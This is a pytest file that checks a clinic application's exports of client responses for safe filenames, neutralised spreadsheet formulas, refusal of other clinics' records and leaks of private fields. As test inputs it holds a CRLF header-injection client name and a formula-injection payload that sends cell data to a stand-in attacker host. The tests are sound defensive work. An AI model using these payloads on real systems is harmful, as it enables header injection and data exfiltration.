"""Files of responses: under fixed names, of this clinic's own, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy import update

from assessment.exports.csv_file import BYTE_ORDER_MARK, harmless
from assessment.records import tables
from assessment.records.database import Database
from assessment.records.ids import ResponseId, new_id
from tests.web.clinic.conftest import MakeStaff
from tests.web.clinic.sent import EMERGENCY, MASSAGE, send_to
from tests.web.clinic.staff import Staff, StaffPage

EXPORT = "/clinic/export"
TYPES = {
    "pdf": "application/pdf",
    "csv": "text/csv; charset=utf-8",
    "json": "application/json",
}


def export(staff: Staff, format: str, *responses: ResponseId, query: str = "") -> StaffPage:
    return staff.post(EXPORT + query, {"response": list(responses), "format": format})


def rows_of(page: StaffPage) -> list[dict[str, str]]:
    text = page.response.data.decode("utf-8").removeprefix(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("format", TYPES)
def test_asvs_5_4_1_a_file_is_named_by_an_id_whatever_a_client_is_called(
    staff: Staff, format: str
) -> None:
    name = 'evil"; filename="x.exe\r\nSet-Cookie: a=b'
    one, two = send_to(staff, MASSAGE, name, message=name), send_to(staff, MASSAGE, name)

    files = {
        f"response-{one[:8]}": staff.get(f"/clinic/responses/{one}.{format}"),
        f"response-{two[:8]}": export(staff, format, two),
        "responses": export(staff, format, one, two),
    }
    for stem, page in files.items():
        headers = page.response.headers
        assert page.status == 200
        assert headers["Content-Disposition"] == f'attachment; filename="{stem}.{format}"'
        assert headers["Content-Type"] == TYPES[format]
        assert headers["Cache-Control"] == "no-store"
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert "Set-Cookie" not in headers


def test_asvs_1_2_10_what_begins_like_a_formula_is_text_in_a_spreadsheet(staff: Staff) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1)'
    response = send_to(staff, MASSAGE, formula, message=formula)
    staff.post(f"/clinic/responses/{response}/notes", {"text": formula})

    [row] = rows_of(export(staff, "csv", response))

    assert row["client"] == row["message"] == f"'{formula}"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_a_selection_comes_in_the_order_of_the_list_each_once(staff: Staff) -> None:
    one, two = send_to(staff, MASSAGE, "Ann"), send_to(staff, EMERGENCY, "Bea")

    ids = [row["id"] for row in rows_of(export(staff, "csv", two, one, two))]
    assert ids == [two, one]
    document = json.loads(export(staff, "json", one, two).response.data)
    assert [entry["client"]["name"] for entry in document["responses"]] == ["Ann", "Bea"]
    assert document["responses"][1]["decision"]["recommendation"] == "emergency"
    assert export(staff, "pdf", one, two).response.data.startswith(b"%PDF-")


def test_a_response_has_one_name_in_every_file() -> None:
    """One name in 64 would begin with a hyphen, if it were left to chance."""
    names = [new_id() for _ in range(3000)]

    assert [harmless(name) for name in names] == names


def test_a_response_that_cannot_be_read_is_in_the_file_as_such(
    staff: Staff, database: Database
) -> None:
    broken, whole = send_to(staff, MASSAGE, "Ann"), send_to(staff, MASSAGE, "Bea")
    with database.writing() as tx:
        where = tables.responses.c.id == broken
        tx.connection.execute(update(tables.responses).where(where).values(sealed=b"x" * 90))

    rows = rows_of(export(staff, "csv", broken, whole))

    assert [(row["readable"], row["recommendation"]) for row in rows] == [
        ("no", "Certified therapist"),
        ("yes", "Certified therapist"),
    ]
    assert export(staff, "pdf", broken, whole).status == 200
    assert staff.get(f"/clinic/responses/{broken}.json").status == 200


def test_nothing_ticked_is_explained_on_the_same_list(staff: Staff) -> None:
    done = send_to(staff, MASSAGE, "Ann")
    staff.post(f"/clinic/responses/{done}/state", {"kind": "reviewed"})
    send_to(staff, MASSAGE, "Bea")

    page = export(staff, "csv", query="?state=reviewed&recommendation=any")

    assert page.status == 422
    assert page.errors == ["Select at least one response"]
    assert "#select-1" in page.links
    assert page.value("state") == "reviewed"
    assert "Ann" in page.text
    assert "Bea" not in page.text


@pytest.mark.parametrize("format", ["", "exe", "../pdf", "PDF"])
def test_a_kind_of_file_that_does_not_exist_is_refused(staff: Staff, format: str) -> None:
    response = send_to(staff)

    assert export(staff, format, response).status == 400
    assert staff.get(f"/clinic/responses/{response}.{format}").status == 404


def test_asvs_8_2_2_one_foreign_response_spoils_the_whole_file(make_staff: MakeStaff) -> None:
    ours, theirs = make_staff(), make_staff("Hillside", "bo@example.org")
    own, foreign = send_to(ours), send_to(theirs)

    for format in TYPES:
        assert export(ours, format, own, foreign).status == 404
        assert ours.get(f"/clinic/responses/{foreign}.{format}").status == 404


def test_a_file_holds_nothing_private(staff: Staff) -> None:
    response = send_to(staff, {**MASSAGE, "home": ["hurt"]})

    for format in ("csv", "json"):
        data = staff.get(f"/clinic/responses/{response}.{format}").response.data.decode()
        for word in ("being_hurt", "hurts you", "at_home", "helpline", '"home"'):
            assert word not in data
